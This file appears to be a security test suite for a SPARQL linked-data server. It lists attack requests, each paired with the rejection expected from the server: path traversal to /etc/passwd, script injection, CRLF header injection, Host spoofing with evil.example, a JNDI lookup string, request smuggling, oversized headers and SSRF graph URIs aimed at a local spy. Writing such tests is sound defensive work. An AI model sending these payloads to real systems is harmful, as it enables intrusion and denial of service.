# ruff: noqa: E501 - a row is a line
"""The attacks, one row each: what is sent and what may come back.

An outcome is the kind of a problem, a bare status such as "200", or "broken" for a connection that
breaks before the answer's end. "refused" stands for any of REFUSED: servers differ in who of them
notices first that bytes are no HTTP.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, replace
from typing import Final
from urllib.parse import quote

from tests.server.attacks import queries
from tests.server.attacks.exchange import Request, ask, get, post

FORM: Final = "application/x-www-form-urlencoded"
STATUSES: Final = {
    "bad-request": 400,
    "engine-stopped": 500,
    "fetch": 403,
    "limit": 400,
    "media-type": 415,
    "method": 405,
    "not-acceptable": 406,
    "not-found": 404,
    "read-only": 403,
    "result-too-large": 422,
    "syntax": 400,
    "timeout": 503,
    "too-large": 413,
}
STOPPED: Final = frozenset({"timeout", "engine-stopped", "result-too-large", "limit", "broken"})
ANSWERED: Final = frozenset({"200", "syntax"})
REFUSED: Final = frozenset({"bad-request", "400", "405", "414", "431", "501", "method", "broken"})


@dataclass(frozen=True, slots=True)
class Attack:
    """One row.

    Attributes:
        name: what it is meant to do.
        request: what is sent.
        wants: the outcomes that are right.
        shows_not: what must stand neither in the headers nor in the body.
        served_only: whether it needs sockets, or is too slow to be run twice.
    """

    name: str
    request: Request
    wants: frozenset[str]
    shows_not: tuple[str, ...] = ()
    served_only: bool = False

    def aimed(self, port: int) -> Request:
        """Return the request with the spy's port in it."""
        asked = self.request
        return replace(
            asked,
            target=asked.target.replace("SPYPORT", str(port)),
            body=asked.body.replace(b"SPYPORT", str(port).encode()),
        )


def row(name: str, request: Request, wants: str, *shows_not: str, served: bool = False) -> Attack:
    """Make a row; `wants` are outcomes with "|" between them."""
    return Attack(name, request, frozenset(wants.split("|")), shows_not, served)


def of_queries() -> Iterator[Attack]:
    """Yield the rows of hostile queries."""
    engine = STOPPED | ANSWERED
    for group, texts, wants, served in (
        ("runaway", queries.RUNAWAYS, STOPPED, True),
        ("memory", queries.MEMORY, STOPPED, True),
        ("nesting", queries.DEEP, STOPPED | {"syntax"}, False),
        ("chain", queries.ENDLESS_CHAINS, engine, True),
        ("planner", queries.PLANNER, engine, True),
        ("fetch", queries.FETCHES, {"fetch"}, False),
        ("escaped fetch", queries.ESCAPED_FETCHES, {"fetch", "syntax", "200"}, False),
        ("no fetch", queries.LOOK_ALIKES, {"200"}, False),
        ("update", queries.UPDATES, {"syntax"}, False),
        ("elsewhere", queries.ELSEWHERE, {"200"}, False),
    ):
        for name, text in texts.items():
            shows_not = ("root:",) if group == "elsewhere" else ()
            request = ask(text, ("Accept", "*/*"))
            yield Attack(f"{group}: {name}", request, frozenset(wants), shows_not, served)


CSV_FORMULA: Final = 'SELECT ?x { VALUES ?x { "=HYPERLINK(1)" "+1" "@SUM(1)" "-1" } }'
_JUNK: Final = "x" * 3000
_TYPES: Final = ", ".join(f"text/x{n};q=0.{n % 10}" for n in range(10_000))
_SCRIPT: Final = "<script>alert(1)</script>\"'><img src=x onerror=alert(1)>"
_HTML: Final = ("Accept", "text/html")
_CRLF: Final = "\r\nX-Injected: yes\r\n\r\n<script>"

PROTOCOL: Final = (
    row("no query at all", post(FORM, ""), "bad-request"),
    row("empty query", get("/sparql?query="), "bad-request|syntax"),
    row("two queries", get("/sparql?query=ASK%7B%7D&query=ASK%7B%7D"), "bad-request"),
    row(
        "a query in the URL and one in the body",
        replace(ask("ASK {}"), target="/sparql?query=ASK%7B%7D"),
        "bad-request",
    ),
    row("query and update", post(FORM, "query=ASK{}&update=CLEAR+ALL"), "bad-request"),
    row("update by GET", get("/sparql", update="CLEAR ALL"), "bad-request"),
    row("update by POST", post("application/sparql-update", "CLEAR ALL"), "read-only"),
    row("update as query", post(FORM, "query=CLEAR+ALL"), "syntax"),
    row("query is JSON", post("application/json", '{"query": "ASK {}"}'), "media-type"),
    row("query is multipart", post("multipart/form-data; boundary=x", "--x--"), "media-type"),
    row("query has no type", Request("POST", "/sparql", (), b"ASK {}"), "media-type"),
    row("type is rubbish", post(";;=/,\x7f", "ASK {}"), "media-type|400"),
    row("charset of another age", post(FORM + "; charset=utf-16", "query=ASK{}"), "media-type"),
    row("charset is rubbish", post(FORM + ";charset=\"';--", "query=ASK{}"), "media-type"),
    row("charset UTF-7", post("application/sparql-query;charset=UTF-7", "ASK {}"), "media-type"),
    row("NUL in the query", ask("ASK {\0}"), "syntax|bad-request"),
    row("NUL in a string", ask('ASK { BIND("\0" AS ?x) }'), "200|syntax|bad-request"),
    row("invalid UTF-8", post("application/sparql-query", b"ASK { ?s ?p '\xff' }"), "bad-request"),
    row("overlong UTF-8", post("application/sparql-query", b"ASK \xc0\xbb\xc1\xbd"), "bad-request"),
    row("surrogates", post("application/sparql-query", b"ASK {'\xed\xa0\x80'}"), "bad-request"),
    row("invalid UTF-8 in the URL", get("/sparql?query=ASK%7B%ff%7D"), "bad-request"),
    row("invalid UTF-8 in a form", post(FORM, "query=ASK%7B%c0%af%7D"), "bad-request"),
    row("half an escape", get("/sparql?query=ASK%7B%7D%"), "200|bad-request|syntax"),
    row("escaped twice", get("/sparql?query=ASK%257B%257D"), "syntax"),
    row("byte order mark", ask("\ufeffASK {}"), "200|syntax"),
    row("thousands of parameters", get("/sparql?" + "a=b&" * 2000), "bad-request|414|431"),
    row("thousands of graphs", post(FORM, "query=ASK{}" + "&default-graph-uri=a:b" * 900), "200"),
    row("graph is a relative path", get("/sparql", **{"query": "ASK {}", "default-graph-uri": "../x"}), "bad-request"),
    row("graph has a line break", get("/sparql", **{"query": "ASK {}", "named-graph-uri": "a:b" + _CRLF}), "bad-request"),
    row("graph is a file", get("/sparql", **{"query": "ASK { ?s ?p ?o }", "default-graph-uri": "file:///etc/passwd"}), "200"),
    row("graph is the spy", get("/sparql", **{"query": "ASK { ?s ?p ?o }", "default-graph-uri": queries.SPY}), "200"),
    row("named graph is the spy", get("/sparql", **{"query": "ASK { GRAPH ?g { ?s ?p ?o } }", "named-graph-uri": queries.SPY}), "200"),
    row("graph closes its bracket", get("/sparql", **{"query": "ASK {}", "default-graph-uri": "a:b> { } SERVICE <" + queries.SPY}), "bad-request"),
    row("format is no format", get("/sparql", query="ASK {}", format="../../etc/passwd"), "not-acceptable"),
    row("format has a line break", get("/sparql", query="ASK {}", format="json" + _CRLF), "not-acceptable"),
    row("format is very long", get("/sparql", query="ASK {}", format=_JUNK), "not-acceptable"),
    row("format is a dunder", get("/sparql", query="ASK {}", format="__class__"), "not-acceptable"),
    row("timeout is not a number", get("/sparql", query="ASK {}", timeout="-1e999"), "200|bad-request"),
    row("query too long", ask("ASK {}" + " " * 70_000), "limit|too-large"),
    row("body too large", ask("ASK {}" + "#" * 2_000_000), "too-large|limit|broken"),
    row("form too large", post(FORM, "query=" + "a" * 2_000_000), "too-large|limit|broken"),
    row("formulas for a spreadsheet", ask(CSV_FORMULA, ("Accept", "text/csv")), "200"),
)  # fmt: skip

HEADERS: Final = (
    row("ten thousand media types", get("/sparql", ("Accept", _TYPES), query="ASK {}"), "not-acceptable|431|400"),
    row("media types without end", get("/sparql", ("Accept", "," * 60_000), query="ASK {}"), "200|431|400"),
    row("one very long media type", get("/sparql", ("Accept", "a/" + "b" * 60_000), query="ASK {}"), "not-acceptable|431|400"),
    row("media type with thousands of parameters", get("/sparql", ("Accept", "text/csv" + ";a=b" * 15_000), query="ASK {}"), "200|431|400|not-acceptable"),
    row("weights that are not", get("/sparql", ("Accept", "text/csv;q=NaN, text/xml;q=1e9, */*;q=-1"), query="ASK {}"), "200|not-acceptable"),
    row("languages without end", get("/", _HTML, ("Accept-Language", "en," * 20_000)), "200|431|400"),
    row("codings without end", get("/sparql", ("Accept-Encoding", "gzip;q=0.1," * 6_000), query="ASK {}"), "200|431|400"),
    row("codings that are not", get("/sparql", ("Accept-Encoding", "zstd;q=x, \x7f, *;q=0"), query="ASK {}"), "200|400|not-acceptable"),
    row("cookies without end", get("/", _HTML, ("Cookie", "a=b; " * 10_000)), "200|431|400"),
    row("hundreds of headers", get("/", *((f"X-{n}", "y") for n in range(500))), "200|431|400|broken"),
    row("header of 100 kB", get("/", ("X-Long", "y" * 100_000)), "200|431|400"),
    row("tags without end", get("/download/latest/void.ttl", ("If-None-Match", ", ".join(f'"{n}"' for n in range(6_000)))), "200|431|400"),
    row("tag that is none", get("/download/latest/void.ttl", ("If-None-Match", '"' * 999)), "200|304"),
    row("date that is none", get("/download/latest/void.ttl", ("If-Modified-Since", "Mon, 99 Feb 99999 99:99:99 GMT")), "200"),
    row("a thousand ranges", get("/download/latest/void.ttl", ("Range", "bytes=" + ",".join(f"{n}-{n}" for n in range(1000)))), "200|206|range"),
    row("overlapping ranges", get("/download/latest/void.ttl", ("Range", "bytes=" + "0-," * 500)), "200|206|range"),
    row("range backwards", get("/download/latest/void.ttl", ("Range", "bytes=9-1")), "200|range"),
    row("range beyond all numbers", get("/download/latest/void.ttl", ("Range", f"bytes={'9' * 400}-")), "200|range"),
    row("range is negative", get("/download/latest/void.ttl", ("Range", "bytes=--5")), "200|range"),
    row("range of other units", get("/download/latest/void.ttl", ("Range", "lines=1-2")), "200|range"),
    row("another host", get("/sparql", ("Host", "evil.example"), ("Accept", "text/turtle")), "200|bad-request"),
    row("another host for a thing", get("/id/spbpu", ("Host", "evil.example")), "303|bad-request", "evil.example"),
    row("another host for a page", get("/doc/spbpu", _HTML, ("Host", "evil.example")), "200|bad-request", "evil.example"),
    row("another host forwarded", get("/id/spbpu", ("X-Forwarded-Host", "evil.example"), ("Forwarded", "host=evil.example")), "303", "evil.example"),
    row("another host before a slash", get("/download/", ("Host", "evil.example/x"), _HTML), "200|404|400|not-found|bad-request", "evil.example"),
    row("host is rubbish", get("/id/spbpu", ("Host", "a b\"<>{}'")), "303|bad-request|400"),
    row("another path by a header", get("/", ("X-Original-URL", "/metrics"), ("X-Rewrite-URL", "/x")), "200"),
    row("another method by a header", get("/", ("X-HTTP-Method-Override", "DELETE")), "200"),
    row("forwarded from a script", get("/health", ("X-Forwarded-For", _SCRIPT)), "200", "<script>"),
    row("user agent for a log", get("/", ("User-Agent", "${jndi:ldap://127.0.0.1:SPYPORT/}")), "200"),
)  # fmt: skip

_SECRETS: Final = ("root:", '"format": 1', "SQLite format")
PATHS: Final = (
    *(
        row(f"out of {room} by {name}", get(f"/{room}/{path}"), "404|not-found|bad-request|400" + "|303" * (room == "id"), *_SECRETS)
        for room in ("download", "download/latest", "doc", "id", "graph", "article", "static")
        for name, path in {
            "dots": "../../../../../../etc/passwd",
            "escaped dots": "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
            "dots escaped twice": "%252e%252e%252fetc%252fpasswd",
            "overlong dots": "%c0%ae%c0%ae%c0%afetc/passwd",
            "backslashes": "..%5c..%5cetc%5cpasswd",
            "an absolute path": "%2fetc%2fpasswd",
            "a NUL": "void.ttl%00.html",
            "the manifest": "..%2fmanifest.json",
        }.items()
    ),
    row("manifest as a download", get("/download/latest/manifest.json"), "404|not-found", *_SECRETS),
    row("index as a download", get("/download/latest/search.db"), "404|not-found", *_SECRETS),
    row("store as a download", get("/download/latest/store"), "404|not-found"),
    row("release by a link", get("/download/current/void.ttl"), "404|not-found"),
    row("release by dots", get("/download/../void.ttl"), "404|not-found|bad-request"),
    row("release in capitals", get("/download/ABCDEF0123456789"), "404|not-found"),
    row("release in other digits", get("/download/" + quote("١" * 16)), "404|not-found"),
    row("redirect to another host", get("/id//evil.example/x"), "404|not-found", "//evil.example"),
    row("redirect by two slashes", get("//evil.example/id/spbpu"), "404|not-found|bad-request"),
    row("redirect by a backslash", get("/id/%5c%5cevil.example"), "404|not-found|bad-request"),
    row("redirect with a scheme", get("/id/https://evil.example"), "303|404|not-found"),
    row("redirect with a line break", get("/id/x%0d%0aX-Injected:%20yes"), "404|not-found|bad-request", "x-injected:"),
    row("query in a name", get("/doc/x%3e%20%3fp%20%3fo%7d%20%23"), "404|not-found|bad-request"),
    row("variable in a name", get("/doc/$this"), "404|not-found"),
    row("name of 8 kB", get("/doc/" + "x" * 8000), "404|not-found|414|431"),
    row("URL of 200 kB", get("/sparql?query=" + "x" * 200_000), "400|414|431|limit|broken"),
    row("invalid UTF-8 in a name", get("/doc/%ff%fe"), "404|not-found|bad-request"),
    row("name in another script", get("/doc/" + quote("圣彼得堡‮\u202e")), "404|not-found"),
    row("escape that is none in a name", get("/doc/%25zz"), "404|not-found"),
    row("bracket in a name", get("/doc/%5b"), "404|not-found"),
    row("script in a name", get("/doc/" + quote(_SCRIPT), _HTML), "404|400", _SCRIPT, "<img"),
    row("template in a name", get("/doc/" + quote("{{7*7}}${7*7}"), _HTML), "404|400", "49$", "$49"),
    row("script in a search", get("/search", _HTML, q=_SCRIPT), "200", _SCRIPT, "<img"),
    row("script in a search as JSON", get("/search", q=_SCRIPT), "200"),
    row("template in a search", get("/search", _HTML, q="{{7*7}}"), "200", ">49<"),
    row("script in a query", get("/sparql", _HTML, query=_SCRIPT), "400", _SCRIPT, "<img"),
    row("end of a text area in a query", get("/sparql", _HTML, query="</textarea><script>x"), "400", "<script>x"),
    row("script in a result", get("/sparql", _HTML, query="SELECT ?x { VALUES ?x { '''<script>x</script>''' } }"), "200", "<script>x"),
    row("script for a variable", get("/sparql", _HTML, query="SELECT ?x { VALUES ?x { <javascript:alert(1)> } }"), "200", 'href="javascript'),
    row("script as an answer", get("/sparql", _HTML, query="CONSTRUCT { <a:b> <a:c> '<script>x' } {}"), "200", "<script>x"),
    row("search in the index's language", get("/search", q='" OR 1=1 -- * NEAR( ^'), "200"),
    row("search for a NUL", get("/search?q=a%00b"), "200|bad-request"),
    row("search for blanks", get("/search?q=%20%09%0a"), "200"),
    row("search for 200 kinds of hooks", get("/search", q="\u0301" * 200), "200"),
    row("search for too much", get("/search", q="a" * 5000), "bad-request"),
    row("search for broken UTF-8", get("/search?q=%ff%c0%af"), "200|bad-request"),
    row("search without a limit", get("/search?q=a&limit=999999999999"), "bad-request"),
    row("search with no number", get("/search?q=a&limit=0x10"), "bad-request"),
    row("search with other digits", get("/search", q="a", limit="١٢"), "bad-request"),
    row("search less than nothing", get("/search?q=a&limit=-1"), "bad-request"),
)  # fmt: skip

METHODS: Final = tuple(
    row(f"{method} {target}", Request(method, target, (("Max-Forwards", "0"), ("Cookie", "s=1"))), wants, "s=1")
    for method, target, wants in (
        ("TRACE", "/", "method|405|501|400"),
        ("TRACK", "/", "method|405|501|400"),
        ("PROPFIND", "/", "method|405|501|400"),
        ("PROPFIND", "/download/", "method|405|501|400|not-found"),
        ("PUT", "/sparql", "method"),
        ("DELETE", "/sparql", "method"),
        ("PATCH", "/doc/spbpu", "method"),
        ("PUT", "/download/latest/void.ttl", "method"),
        ("DELETE", "/graph/authority", "method"),
        ("POST", "/search", "method"),
        ("POST", "/health", "method"),
        ("get", "/", "200|method|405|501|400"),
        ("GET" * 40, "/", "method|405|501|400"),
    )
)  # fmt: skip


def raw(name: str, sent: str | bytes, wants: str = "refused") -> Attack:
    """Make a row of bytes; a blank line is added to text."""
    encoded = sent if isinstance(sent, bytes) else (sent + "\r\n\r\n").encode("latin-1")
    outcomes = frozenset(wants.split("|"))
    outcomes = outcomes - {"refused"} | (REFUSED if "refused" in outcomes else set())
    return Attack(name, Request(raw=encoded), outcomes, ("x-injected:",), served_only=True)


_HEAD: Final = "Host: x\r\nConnection: close"
_POST: Final = f"POST /sparql HTTP/1.1\r\n{_HEAD}\r\nContent-Type: application/sparql-query"
WIRE: Final = (
    raw("not HTTP", b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(200)),
    raw("not even text", bytes(range(256)) * 40),
    raw("HTTP/2 without being asked", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(40), "refused|505"),
    raw("HTTP of the future", f"GET / HTTP/9.9\r\n{_HEAD}", "refused|505"),
    raw("HTTP/1.0", "GET /health HTTP/1.0", "200"),
    raw("HTTP/0.9", b"GET /health\r\n\r\n"),
    raw("no host", "GET /health HTTP/1.1\r\nConnection: close", "200|refused"),
    raw("two hosts", f"GET /health HTTP/1.1\r\nHost: y\r\n{_HEAD}", "200|refused"),
    raw("a whole URL", f"GET http://evil.example/health HTTP/1.1\r\n{_HEAD}", "200|refused|not-found"),
    raw("a URL with a name and password", f"GET http://a:b@c/health HTTP/1.1\r\n{_HEAD}", "200|refused|not-found"),
    raw("tunnel", f"CONNECT 127.0.0.1:22 HTTP/1.1\r\n{_HEAD}", "refused|404|not-found"),
    raw("tunnel to a path", f"CONNECT / HTTP/1.1\r\n{_HEAD}", "refused|404|not-found"),
    raw("asterisk", f"GET * HTTP/1.1\r\n{_HEAD}", "refused|404|not-found"),
    raw("options of all", f"OPTIONS * HTTP/1.1\r\n{_HEAD}", "200|204|refused|404|not-found"),
    raw("a path without a slash", f"GET health HTTP/1.1\r\n{_HEAD}", "200|refused|404|not-found"),
    raw("NUL in the path", f"GET /doc/\0 HTTP/1.1\r\n{_HEAD}", "refused|404"),
    raw("bytes in the path", f"GET /doc/\xff\xfe HTTP/1.1\r\n{_HEAD}", "refused|not-found"),
    raw("blank in the path", f"GET /doc/a b HTTP/1.1\r\n{_HEAD}", "refused|not-found"),
    raw("NUL in a header", f"GET /health HTTP/1.1\r\nX: a\0b\r\n{_HEAD}", "refused"),
    raw("header without a colon", f"GET /health HTTP/1.1\r\nnonsense\r\n{_HEAD}"),
    raw("header with a blank before the colon", f"GET /health HTTP/1.1\r\nX : y\r\n{_HEAD}"),
    raw("folded header", f"GET /health HTTP/1.1\r\nX: a\r\n b\r\n{_HEAD}"),
    raw("bare line feeds", f"GET /health HTTP/1.1\n{_HEAD.replace(chr(13), '')}\n".encode() + b"\n", "200|refused"),
    raw("upgrade to HTTP/2", "GET /health HTTP/1.1\r\nHost: x\r\nConnection: close, Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__", "200|refused"),
    raw("upgrade to a web socket", "GET /sparql HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "refused|403|404|200"),
    raw("length and chunks", f"{_POST}\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\nX-Injected: yes", "refused|syntax|media-type"),
    raw("two lengths", f"{_POST}\r\nContent-Length: 6\r\nContent-Length: 60\r\n\r\nASK {{}}"),
    raw("length with a sign", f"{_POST}\r\nContent-Length: +6\r\n\r\nASK {{}}"),
    raw("length below nothing", f"{_POST}\r\nContent-Length: -6\r\n\r\nASK {{}}"),
    raw("length beyond all numbers", f"{_POST}\r\nContent-Length: 99999999999999999999999\r\n\r\nASK {{}}"),
    raw("length in a list", f"{_POST}\r\nContent-Length: 6, 6\r\n\r\nASK {{}}", "refused|200"),
    raw("length far beyond the limit", f"{_POST}\r\nContent-Length: 9999999999\r\n\r\nASK {{}}", "refused|too-large|slow-request"),
    raw("chunks", f"{_POST}\r\nTransfer-Encoding: chunked\r\n\r\n4\r\nASK \r\n2\r\n{{}}\r\n0", "200"),
    raw("bad size of a chunk", f"{_POST}\r\nTransfer-Encoding: chunked\r\n\r\nZZ\r\nASK {{}}\r\n0"),
    raw("size of a chunk below nothing", f"{_POST}\r\nTransfer-Encoding: chunked\r\n\r\n-6\r\nASK {{}}\r\n0"),
    raw("size of a chunk beyond all numbers", f"{_POST}\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\nASK {{}}\r\n0"),
    raw("extension of a chunk of 100 kB", f"{_POST}\r\nTransfer-Encoding: chunked\r\n\r\n6;{'x' * 100_000}\r\nASK {{}}\r\n0", "refused|200"),
    raw("a coding that is none", f"{_POST}\r\nTransfer-Encoding: xchunked\r\n\r\n6\r\nASK {{}}\r\n0", "refused|syntax"),
    raw("chunks twice", f"{_POST}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nASK {{}}\r\n0", "refused|200"),
    raw("trailers with headers", f"{_POST}\r\nTransfer-Encoding: chunked\r\n\r\n6\r\nASK {{}}\r\n0\r\nX-Injected: yes\r\nContent-Length: 5", "200|refused"),
    raw("body of a GET", f"GET /health HTTP/1.1\r\n{_HEAD}\r\nContent-Length: 25\r\n\r\nGET /nowhere HTTP/1.1\r\n\r\n.", "200|refused"),
    raw("expectation that is none", f"{_POST}\r\nExpect: 200-please\r\nContent-Length: 6\r\n\r\nASK {{}}", "200|417|refused"),
    raw("very many blank lines", b"\r\n" * 5000 + b"GET /health HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n", "200|refused"),
)  # fmt: skip

ATTACKS: Final = (*of_queries(), *PROTOCOL, *HEADERS, *PATHS, *METHODS, *WIRE)
